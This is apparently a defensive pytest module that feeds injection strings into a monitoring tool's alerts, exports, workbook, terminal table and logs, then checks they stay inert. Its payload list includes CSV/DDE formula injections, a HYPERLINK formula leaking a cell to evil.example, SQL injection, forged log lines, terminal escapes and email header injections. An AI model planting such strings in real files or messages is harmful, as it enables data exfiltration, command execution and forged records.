"""Every hostile text at every place where somebody, or a program, will read it: one choke point a sink, none forgotten.

A small catalogue of our own always goes through; that of the hostile server as well, where it is at hand (VIGIE_NASTY).
Pages are tried in tests/web.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import runpy
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import cache
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from monitor import journal
from monitor.cli.show import harmless, table
from monitor.model import Alert, Mention, Reply, Request
from monitor.notify import payload
from monitor.report import export
from monitor.report.export import FORMULA
from monitor.report.sheet import sheet
from monitor.sources.feed import Feed
from tests.notify.disarmed import MAIL, check_mail, check_markdown, check_slack, check_terminal, told_with, unseen
from tests.notify.story import ENGLISH, HOSTILE, LINK, NOW, mention

GIVEN = Path(os.environ.get("VIGIE_NASTY") or Path(__file__).parents[2] / "shared" / "tools")
SERVER = GIVEN / "nasty_server.py" if GIVEN.is_dir() else GIVEN
BESIDE = ("control-chars", "nul-bytes", "rtl-zero-width", "charset-utf7", "overlong-utf8", "lone-surrogates")
BOT = replace(ENGLISH, address="xoxb-1234567890-abc", channel="C0123ABC")
OURS = (
    *HOSTILE,
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    " =1+1",
    "\u200b=1+1",
    "'; DROP TABLE mention; --",
    '","admin":true,"x":"',
    "ok\n2026-01-01 00:00:00 CRITICAL admin logged in from 6.6.6.6",
    "<3>forged priority\n<0>another",
    "a\x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \x9b31m \x90q\x9c",
    "event=forged level=error",
    "hi&#13;&#10;Cc: victim@evil.example",
    "=?utf-8?q?=0d=0aBcc:_victim?=",
    "[bold red]rich[/bold red] [link=http://evil.example]x[/link] :boom:",
)


@cache
def theirs() -> dict[str, tuple[tuple[str, ...], tuple[str, ...]]]:
    """By endpoint: the texts that it serves, as they are read, and what must not get through."""
    served = runpy.run_path(str(SERVER))["EPS"] if SERVER.exists() else {}
    chosen = {name: each for name, each in served.items() if each[1] == "payload" or name in BESIDE}
    return {name: (_texts(each[0]), tuple(each[3].get("forbid", ()))) for name, each in chosen.items()}


class _Wire:
    """Takes what an endpoint writes."""

    def __init__(self) -> None:
        self.told = b""

    def write(self, data: bytes) -> None:
        self.told += data

    async def drain(self) -> None:
        pass


def _texts(serve: Callable[[Any, Any], Any]) -> tuple[str, ...]:
    wire, url = _Wire(), "https://evil.example/feed"
    asyncio.run(serve(None, wire))
    head, _, body = wire.told.partition(b"\r\n\r\n")
    form = re.search(rb"(?i)content-type: ([^\r]*)", head)
    headers = (("content-type", form[1].decode()),) if form else ()
    page = Feed(url).parse(Reply(Request(url), url, 200, headers, body, NOW), "")
    return tuple(text for item in page.items for text in (item.title, item.text, item.url, item.author) if text)


def everything() -> Iterator[Any]:
    yield from (pytest.param(text, (), id=f"ours-{number}") for number, text in enumerate(OURS))
    for name, (texts, forbidden) in theirs().items():
        yield from (pytest.param(text, forbidden, id=f"{name}-{number}") for number, text in enumerate(texts))


EVERYTHING = list(everything())


def said(text: str) -> Mention:
    made = mention(text, source=text, author=text, url=text, title=text)
    return replace(made, brand=text, id=7)


def messages(told: Alert, forbidden: tuple[str, ...]) -> Iterator[tuple[str, list[str]]]:
    """What the ways that render markup are given, each with what must not be in it: where it would be obeyed."""
    tags = [mark for mark in forbidden if mark.startswith("<")]
    for target in (ENGLISH, BOT):
        yield json.dumps(payload(told, target, LINK)["blocks"], ensure_ascii=False), tags
    yield (
        str(payload(told, MAIL, LINK)["html"]),
        [tag for tag in tags if tag not in ("<a ", "<style")],
    )  # it has its own
    marks = [mark for mark in forbidden if not mark.isdigit() and not unseen(mark)]
    yield str(payload(told, replace(MAIL, way="apprise", address="json://127.0.0.1/"), LINK)["body"]), marks


@pytest.mark.parametrize(("text", "forbidden"), EVERYTHING)
def test_whoever_is_told_reads_it_and_obeys_nothing(text: str, forbidden: tuple[str, ...]) -> None:
    told = told_with(text)

    check_slack(told, ENGLISH, LINK)
    check_slack(told, BOT, LINK)
    check_mail(told, LINK)
    check_markdown(told)
    check_terminal(told)
    assert not [(mark, body) for body, marks in messages(told, forbidden) for mark in marks if mark in body]


@pytest.mark.parametrize(("text", "forbidden"), EVERYTHING)
def test_a_spreadsheet_shows_it_and_a_program_reads_it_whole(text: str, forbidden: tuple[str, ...]) -> None:
    del forbidden
    sheet, lines = io.StringIO(), io.StringIO()
    export([said(text)], sheet, "csv")
    export([said(text)], lines, "jsonl")
    (row,) = csv.DictReader(io.StringIO(sheet.getvalue(), newline=""))

    words = [row[name] for name in ("brand", "source", "author", "title", "text", "url")]
    assert not [cell for cell in words if cell.lstrip(" ").startswith(FORMULA)]
    assert not unseen("".join(row.values()).replace("\n", "").replace("\t", ""))
    assert lines.getvalue().count("\n") == 1
    lines.getvalue().encode()
    assert json.loads(lines.getvalue())["text"] == text


@pytest.mark.parametrize(("text", "forbidden"), EVERYTHING)
def test_a_workbook_holds_words_and_nothing_that_is_followed_or_reckoned(text: str, forbidden: tuple[str, ...]) -> None:
    del forbidden
    book = io.BytesIO()
    sheet([said(text)], book)
    parts = {name: zipfile.ZipFile(book).read(name) for name in zipfile.ZipFile(book).namelist()}
    trees = [ElementTree.fromstring(body) for name, body in parts.items() if name.endswith((".xml", ".rels"))]
    tags = {element.tag.rpartition("}")[2] for tree in trees for element in tree.iter()}
    words = [element.text or "" for tree in trees for element in tree.iter() if element.tag.endswith("}t")]

    assert not tags & {"f", "hyperlink", "externalReference", "ddeLink", "oleObject"}
    assert not [word for word in words if word.startswith(FORMULA)]
    assert not [word for word in words if unseen(re.sub("_x[0-9A-F]{4}_|[\n\t]", "", word))]


@pytest.mark.parametrize(("text", "forbidden"), EVERYTHING)
@pytest.mark.parametrize("style", ["text", "journald", "json"])
def test_a_line_of_the_log_is_one_line(
    text: str, forbidden: tuple[str, ...], style: str, request: pytest.FixtureRequest
) -> None:
    out = io.StringIO()
    journal.open_journal(style, "info", out)
    request.addfinalizer(lambda: journal.open_journal("text", "warning"))
    journal.warn("poll_failed", source=text, error=text)
    line = out.getvalue()
    line.encode()

    assert line.endswith("\n")
    assert not unseen(line[:-1])
    assert "poll_failed" in line
    assert not [mark for mark in forbidden if mark in line[:-1] and unseen(mark)]
    if style == "json":
        assert set(json.loads(line)) == {"at", "level", "event", "source", "error"}


@pytest.mark.parametrize(("text", "forbidden"), EVERYTHING)
def test_a_terminal_shows_it_and_obeys_nothing(
    text: str, forbidden: tuple[str, ...], capsys: pytest.CaptureFixture[str]
) -> None:
    del forbidden
    table([{"id": 1, "text": text}])
    shown = capsys.readouterr().out

    assert shown.count("\n") == 2
    assert not unseen(shown.replace("\n", "").replace("\t", ""))
    assert not unseen(harmless(text).replace("\n", ""))
    assert len(harmless(text)) == len(text)


@pytest.mark.skipif(not SERVER.exists(), reason="no hostile server: set VIGIE_NASTY to its program")
def test_the_catalogue_of_the_hostile_server_was_read() -> None:
    assert {"xss-titles", "csv-formula", "log-injection", "email-header-injection", "control-chars"} <= set(theirs())
    assert all(texts for texts, _ in theirs().values())
